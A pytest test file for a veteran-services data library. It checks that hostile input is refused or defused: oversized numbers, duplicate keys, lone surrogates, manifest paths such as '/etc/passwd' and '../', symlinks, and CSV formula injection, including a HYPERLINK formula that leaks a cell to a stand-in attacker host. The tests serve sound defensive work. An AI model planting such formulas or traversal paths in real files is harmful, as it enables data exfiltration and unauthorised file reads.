"""Every reproducer of issue 16 (data safety under faults and hostile input) as a test.

The Parquet and Arrow reproducers (items 2 and 5) belong to the columnar package and are not
here; the atomic writes of item 4 are in ``test_atomic_writes.py``, the re-identification of
item 1 in ``tests/privacy/test_reidentification.py``.
"""

from __future__ import annotations

import json
import time
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from veteran_services import (
    Answer,
    Caseload,
    InvalidInputError,
    Placement,
    RecordError,
    SurveyResponse,
    Veteran,
    codes,
    io,
)
from veteran_services.model import Disposition
from veteran_services.privacy import validate_cn_resident_id

PLACEMENT: dict[str, Any] = {
    "id": "P1",
    "veteran_id": "V1",
    "employer_id": "E1",
    "occupation": "8322",
    "started_on": "2022-01-01",
}
RESPONSE: dict[str, Any] = {
    "id": "R1",
    "instrument_id": "FU",
    "instrument_version": 1,
    "veteran_id": "V1",
    "disposition": "complete",
}


def _problems(cls: type[Any], data: dict[str, Any] | str) -> tuple[str, ...]:
    text = data if isinstance(data, str) else json.dumps(data)
    with pytest.raises(RecordError) as info:
        io.loads(cls, text)
    return info.value.problems


# --- item 7: strictness gaps -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cls", "data", "where"),
    [
        (SurveyResponse, {**RESPONSE, "weight": 10**309}, "$.weight"),
        (Placement, {**PLACEMENT, "contract_months": 10**400}, "$.contract_months"),
        (Placement, {**PLACEMENT, "weekly_hours": 10**309}, "$.weekly_hours"),
    ],
)
def test_integers_above_1e308_keep_the_field_name(cls: type[Any], data: Any, where: str) -> None:
    (problem,) = _problems(cls, data)
    assert problem.startswith(where)
    assert "OverflowError" not in problem
    assert len(problem) < 200  # the 400-digit number is not quoted in full


@pytest.mark.parametrize("amount", ["5292.50\n", "-0", "-0.00", "1" * 100])
def test_money_that_is_not_a_plain_decimal_is_refused(amount: str) -> None:
    data = {**PLACEMENT, "monthly_wage": {"amount": amount}}
    (problem,) = _problems(Placement, data)
    assert problem.startswith("$.monthly_wage.amount")
    assert len(problem) < 200


def test_negative_zero_hours_are_refused() -> None:
    (problem,) = _problems(Placement, {**PLACEMENT, "weekly_hours": "-0"})
    assert "negative zero" in problem


def test_duplicate_json_keys_are_refused() -> None:
    text = json.dumps(PLACEMENT)[:-1] + ', "id": "P2"}'
    (problem,) = _problems(Placement, text)
    assert "'id' appears twice" in problem


def test_duplicate_keys_in_a_jsonl_line_name_the_line(tmp_path: Path) -> None:
    path = tmp_path / "p.jsonl"
    path.write_text(json.dumps(PLACEMENT) + "\n" + json.dumps(PLACEMENT)[:-1] + ', "id": "X"}\n')
    result = io.read_jsonl(path, Placement, errors="collect").collect()
    assert len(result.records) == 1
    assert result.problems[0].startswith("p.jsonl line 2: invalid JSON: the key 'id' appears")


@pytest.mark.parametrize(
    ("field", "value"),
    [("id", "P1\u0000"), ("veteran_id", "V\ud8001"), ("employer_id", "E\n1")],
)
def test_nul_surrogates_and_control_characters_are_refused_in_ids(field: str, value: str) -> None:
    (problem,) = _problems(Placement, {**PLACEMENT, field: value})
    assert problem.startswith(f"$.{field}")


def test_lone_surrogates_are_refused_in_text_and_answers() -> None:
    data = {**PLACEMENT, "occupation_title": "保安\ud800"}
    (problem,) = _problems(Placement, data)
    assert problem.startswith("$.occupation_title")
    assert "\ud800" not in problem
    data = {**RESPONSE, "answers": [{"question_id": "q1", "value": "x\udfff"}]}
    (problem,) = _problems(SurveyResponse, data)
    assert problem.startswith("$.answers[0].value")


def test_lone_surrogates_in_personal_details_are_not_quoted() -> None:
    data = {
        "id": "V1",
        "sex": "male",
        "region": "320115",
        "service": [{"branch": "army", "rank": "nco", "start": "2014-09-01"}],
        "personal": {"name": "王伟\ud800", "phone": "13900000000"},
    }
    (problem,) = _problems(Veteran, data)
    assert problem.startswith("$.personal.name")
    assert "王伟" not in problem


def _folder(tmp_path: Path, **changes: Any) -> Path:
    folder = io.write_caseload(Caseload(), tmp_path / "c")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest.update(changes)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"format": "parquet caseload"}, "$.format: must be 'veteran-services caseload'"),
        ({"format": None}, "$.format"),
        ({"includes_personal": "no"}, "$.includes_personal: must be true or false"),
        ({"counts": [1]}, "$.counts: must map record kinds"),
        ({"counts": {"people": 1}}, "$.counts: 'people' is not a record kind"),
        ({"files": {"veterans": "../outside.jsonl"}}, "$.files"),
        ({"files": {"veterans": "/etc/passwd"}}, "$.files"),
    ],
)
def test_the_manifest_is_checked(tmp_path: Path, changes: dict[str, Any], expected: str) -> None:
    folder = _folder(tmp_path, **changes)
    with pytest.raises(RecordError) as info:
        io.read_caseload(folder)
    assert any(expected in problem for problem in info.value.problems), info.value.problems


def test_a_manifest_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    folder = io.write_caseload(Caseload(), tmp_path / "c")
    text = (folder / "manifest.json").read_text(encoding="utf-8")
    (folder / "manifest.json").write_text(text, encoding="utf-8-sig")
    assert io.read_caseload(folder) == Caseload()


def test_a_deeply_nested_manifest_is_a_record_error(tmp_path: Path) -> None:
    folder = io.write_caseload(Caseload(), tmp_path / "c")
    (folder / "manifest.json").write_text("[" * 100_000)
    with pytest.raises(RecordError, match="nested too deeply"):
        io.read_caseload(folder)


def test_personal_details_where_the_manifest_says_none(tmp_path: Path) -> None:
    from tests.privacy.conftest import build_caseload

    folder = io.write_caseload(build_caseload(), tmp_path / "c", include_personal=True)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["includes_personal"] = False
    (folder / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(RecordError, match="3 veterans hold personal details"):
        io.read_caseload(folder)


def test_a_record_file_that_is_a_link_is_not_read(tmp_path: Path) -> None:
    folder = io.write_caseload(Caseload(), tmp_path / "c")
    secret = tmp_path / "secret.jsonl"
    secret.write_text("")
    (folder / "veterans.jsonl").unlink()
    (folder / "veterans.jsonl").symlink_to(secret)
    with pytest.raises(RecordError, match=r"veterans\.jsonl: is a symbolic link"):
        io.read_caseload(folder)


def test_validate_cn_resident_id_with_today_as_text_is_a_clear_error() -> None:
    with pytest.raises(InvalidInputError, match=r"'today' must be a date .*got '1/1/2020'") as info:
        validate_cn_resident_id("11010519491231002X", today="1/1/2020")  # type: ignore[arg-type]
    assert info.value.argument == "today"
    # an ISO date is taken as the day it names (issue 25)
    assert validate_cn_resident_id("11010519491231002X", today="2020-01-01")


# --- item 6: CSV -------------------------------------------------------------------------------


def _csv(tmp_path: Path, header: str, row: str, name: str = "p.csv") -> Path:
    path = tmp_path / name
    path.write_text(f"{header}\n{row}\n", encoding="utf-8")
    return path


BASE_HEADER = "id,veteran_id,employer_id,occupation,started_on"
BASE_ROW = "P1,V1,E1,8322,2022-01-01"


@pytest.mark.parametrize(
    ("column", "cell", "message"),
    [
        ("insurance", "[" * 5000, "insurance"),
        ("ended_on", "1:" + "9" * 5000, "must be a date"),
        ("ended_on", "1:99999999999999999999", "must be a date"),
        ("ended_on", "2024/13/45", "must be a date"),
        ("monthly_wage.amount", "-0", "must be"),
        ("monthly_wage.amount", "9" * 5000, "at most"),
        ("contract_months", "9" * 4000, "contract_months"),
    ],
)
def test_hostile_csv_cells_are_cell_problems(
    tmp_path: Path, column: str, cell: str, message: str
) -> None:
    path = _csv(tmp_path, f"{BASE_HEADER},{column}", f"{BASE_ROW},{cell}")
    with pytest.raises(RecordError) as info:
        io.read_csv(path, Placement)
    (problem,) = info.value.problems
    assert problem.startswith(f"p.csv row 2, column {column!r}")
    assert message in problem
    assert len(problem) < 300


@pytest.mark.parametrize("encoding", ["rot13", "base64", "no-such-encoding"])
def test_an_encoding_that_is_no_text_encoding_is_refused(tmp_path: Path, encoding: str) -> None:
    path = _csv(tmp_path, BASE_HEADER, BASE_ROW)
    with pytest.raises(InvalidInputError, match="'encoding' must be a text encoding") as info:
        io.read_csv(path, Placement, encoding=encoding)
    assert info.value.argument == "encoding"
    with pytest.raises(InvalidInputError, match="'encoding'"):
        io.write_csv(
            tmp_path / "out.csv", [io.loads(Placement, json.dumps(PLACEMENT))], encoding=encoding
        )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "'=already quoted",
    "''=twice",
    "'just a quote",
    "plain 保安员",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_formulas_are_neutralised_on_write_and_restored_on_read(tmp_path: Path, title: str) -> None:
    placement = io.from_dict(Placement, {**PLACEMENT, "occupation_title": title})
    path = tmp_path / "p.csv"
    io.write_csv(path, [placement])
    text = path.read_text(encoding="utf-8-sig")
    cell_starts = [line.split(",")[4][:1].lstrip('"') for line in text.splitlines()[1:]]
    if title[:1] in "=+-@\t'":
        assert all(start in "'\"" for start in cell_starts) or "'" in text
    assert io.read_csv(path, Placement).records == (placement,)


def test_formula_neutralisation_can_be_turned_off(tmp_path: Path) -> None:
    placement = io.from_dict(Placement, {**PLACEMENT, "occupation_title": "=1+1"})
    path = tmp_path / "p.csv"
    io.write_csv(path, [placement], neutralise_formulas=False)
    assert ",=1+1," in path.read_text(encoding="utf-8-sig")
    read = io.read_csv(path, Placement, neutralise_formulas=False).records
    assert read == (placement,)


def test_numbers_are_not_neutralised(tmp_path: Path) -> None:
    response = io.from_dict(
        SurveyResponse, {**RESPONSE, "answers": [{"question_id": "q1", "value": -3}]}
    )
    path = tmp_path / "r.csv"
    io.write_csv(path, [response])
    assert path.read_text(encoding="utf-8-sig").splitlines()[1].endswith(",-3")
    assert io.read_csv(path, SurveyResponse).records == (response,)


def test_survey_answer_order_survives_the_round_trip(tmp_path: Path) -> None:
    def response(identifier: str, *questions: str) -> SurveyResponse:
        return SurveyResponse(
            id=identifier,
            instrument_id="FU",
            instrument_version=1,
            veteran_id="V1",
            disposition=Disposition.COMPLETE,
            answers=tuple(Answer(question_id=q, value=f"{q} answer") for q in questions),
        )

    responses = [response("R1", "q1", "q2", "q3"), response("R2", "q3", "q1"), response("R3")]
    path = tmp_path / "r.csv"
    io.write_csv(path, responses)
    assert "answer_order" in path.read_text(encoding="utf-8-sig").splitlines()[0]
    assert io.read_csv(path, SurveyResponse).records == tuple(responses)
    # In column order, no extra column.
    io.write_csv(path, responses[:1], overwrite=True)
    assert "answer_order" not in path.read_text(encoding="utf-8-sig")


def test_a_broken_answer_order_cell_is_a_problem(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    header = "id,instrument_id,instrument_version,veteran_id,disposition,answer_order,q1"
    path.write_text(f'{header}\nR1,FU,1,V1,complete,"[""q9""]",yes\n', encoding="utf-8")
    with pytest.raises(RecordError, match=r"row 2, column 'answer_order'"):
        io.read_csv(path, SurveyResponse)


def test_write_csv_gbk_with_an_unencodable_character_leaves_the_file(tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    path.write_text("old contents", encoding="utf-8")
    placement = io.from_dict(Placement, {**PLACEMENT, "occupation_title": "司机 \U00020000"})
    with pytest.raises(InvalidInputError) as info:
        io.write_csv(path, [placement], encoding="gbk")
    message = str(info.value)
    assert "p.csv row 2, column 'occupation_title'" in message
    assert "U+20000" in message
    assert path.read_text(encoding="utf-8") == "old contents"
    assert [p.name for p in tmp_path.iterdir()] == ["p.csv"]


# --- item 3: bounded costs -----------------------------------------------------------------------


@pytest.mark.parametrize("length", [4_000, 20_000, 1_000_000])
def test_suggestions_for_a_long_code_are_cheap_and_quoted_short(length: int) -> None:
    started = time.process_time()
    with pytest.raises(LookupError) as info:
        codes.occupation("7" * length)
    assert time.process_time() - started < 0.5
    assert len(str(info.value)) < 200


def test_checking_a_folder_with_a_20000_character_code_is_quick(tmp_path: Path) -> None:
    folder = io.write_caseload(Caseload(), tmp_path / "c")
    line = json.dumps({**PLACEMENT, "occupation": "9" * 20_000})
    (folder / "placements.jsonl").write_text(line + "\n")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["counts"]["placements"] = 1
    (folder / "manifest.json").write_text(json.dumps(manifest))
    started = time.process_time()
    with pytest.raises(RecordError) as info:
        io.read_caseload(folder)
    assert time.process_time() - started < 2
    (problem,) = info.value.problems
    assert problem.startswith("placements.jsonl line 1: $.occupation")
    assert len(problem) < 300


def test_validators_quote_long_values_cut() -> None:
    with pytest.raises(ValueError, match="must be between") as info:
        Placement(
            id="P1",
            veteran_id="V1",
            employer_id="E1",
            occupation="8322",
            started_on=date(2022, 1, 1),
            contract_months=10**5000,
        )
    assert len(str(info.value)) < 200
